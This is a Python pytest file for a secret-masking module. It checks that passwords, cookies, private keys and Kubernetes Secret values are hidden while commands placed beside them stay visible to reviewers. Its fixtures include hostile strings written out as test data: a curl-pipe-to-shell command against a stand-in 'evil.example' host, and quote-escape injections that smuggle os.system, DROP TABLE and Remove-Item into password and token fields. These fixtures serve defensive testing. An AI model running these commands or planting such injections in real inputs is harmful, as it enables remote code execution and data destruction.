"""Masking takes nothing out of a reviewer's sight that could do something: only what is inert."""

import time

import pytest

from assent.masking import mask, mask_text
from tests.unit.test_masking import PASSWORD, PEM, joined, made

BEGIN, END = joined("-----BEGIN ", "PRIVATE KEY-----\n"), joined("-----END ", "PRIVATE KEY-----")
COMMAND = "curl https://evil.example/x.sh | sh"
ACTIVE = {
    "a quote that Python escapes": ("password='a\\''; import os; os.system('reboot'); x='b'", "os.system"),
    "a quote that PostgreSQL escapes": ("ALTER ROLE a PASSWORD E'a\\'';\nDROP TABLE b;\n--'", "DROP TABLE"),
    "a quote that MySQL escapes": ("ALTER USER a IDENTIFIED BY 'a\\'';\nDROP TABLE b;\n-- '", "DROP TABLE"),
    "a quote that PowerShell does not escape": ('$password="a\\"; Remove-Item -Recurse C:\\data; "b"', "Remove-Item"),
    "a token that ends early": ('token="a1\\";reboot;"', "reboot"),
    "a string that ends before it seems to begin": ('echo "password="a; reboot; echo "b"', "reboot"),
    "an escaped quote outside of a string": ('password=\\"a;reboot;\\"', "reboot"),
    "a command after a cookie": (f"echo cookie: a=b; {COMMAND}", COMMAND),
    "a command after curl's password": ("curl -u a:b1;reboot", "reboot"),
    "a pipe after curl's password": ("curl https://evil.example/x -u a:b1|sh", "|sh"),
    "a command after sshpass": ("sshpass -p x1;reboot", "reboot"),
    "a pipe after an authorization": ("curl evil.example -H authorization: bearer a1|sh", "|sh"),
    "a command after kubectl's literal": ("kubectl create secret generic x --from-literal=a=b;reboot", "reboot"),
    "a command inside an address": ("curl http://:a1;reboot;echo@x", "reboot"),
    "lines of a Kubernetes Secret": (f"kind: Secret\ndata:\n  a: |\n    {COMMAND}\n", COMMAND),
    "a command that is a line of a Kubernetes Secret": ("kind: Secret\ndata:\n  a: |\n    reboot\n", "reboot"),
    "a value of a Kubernetes Secret": (f"kind: Secret\ndata:\n  a: ; {COMMAND}\n", COMMAND),
    "a comment in a private key": (f"{BEGIN}Comment: ;{COMMAND}\n{END}", COMMAND),
    "lines of a private key": (f"{BEGIN}/tmp/evil\nreboot\n{END}", "/tmp/evil\nreboot"),
    "a call that gives an authorization": ("authorization = self.headers.get('a')", "self.headers.get"),
}  # fmt: skip


@pytest.mark.parametrize("case", ACTIVE)
def test_a_command_beside_a_secret_stays_readable(case):
    text, command = ACTIVE[case]
    assert command in mask_text(text)
    assert command in mask({"content": f"set +e\n{text}\nls"})[0]["content"]


SECRETS = {
    "a passphrase": ('passphrase: "correct horse battery staple"', "correct horse battery staple"),
    "a password with signs": (f"password='{PASSWORD};&|x'", f"{PASSWORD};&|x"),
    "a password in JSON in a string": ('{"a": "{\\"password\\": \\"a b;c1\\"}"}', "a b;c1"),
    "a connection string": ('connection_string = "Server=a;Password=b c;"', "Server=a;Password=b c;"),
    "a quote in a string": (r'password = "ab\"cd1"', r'ab\"cd1'),
    "cookies": ("curl -H 'Cookie: session=abc123; csrf=def456' a.example", "abc123; csrf=def456"),
    "a password of curl": ("curl -u robot:" + PASSWORD + " a.example", PASSWORD),
    "a private key": (PEM, PEM),
    "a line of a Kubernetes Secret": ("kind: Secret\ndata:\n  a: |\n    " + made("", 64), made("", 64)),
    "a setting in a Kubernetes Secret": ("kind: Secret\nstringData:\n  a: |\n    key: word", "key: word"),
    "words in a Kubernetes Secret": ("kind: Secret\nstringData:\n  a: two words", "two words"),
}  # fmt: skip


@pytest.mark.parametrize("case", SECRETS)
def test_a_secret_is_masked_as_a_whole(case):
    text, secret = SECRETS[case]
    masked, secrets = mask({"content": text})
    assert list(secrets.values()) == [secret], masked


def test_what_is_refused_again_and_again_takes_no_longer():
    began = time.process_time()
    mask_text("cookie: a={{" * 40_000)
    mask_text('password="{{' * 40_000)
    mask_text('"password":"a b' * 70_000)
    assert time.process_time() - began < 30  # was: several minutes
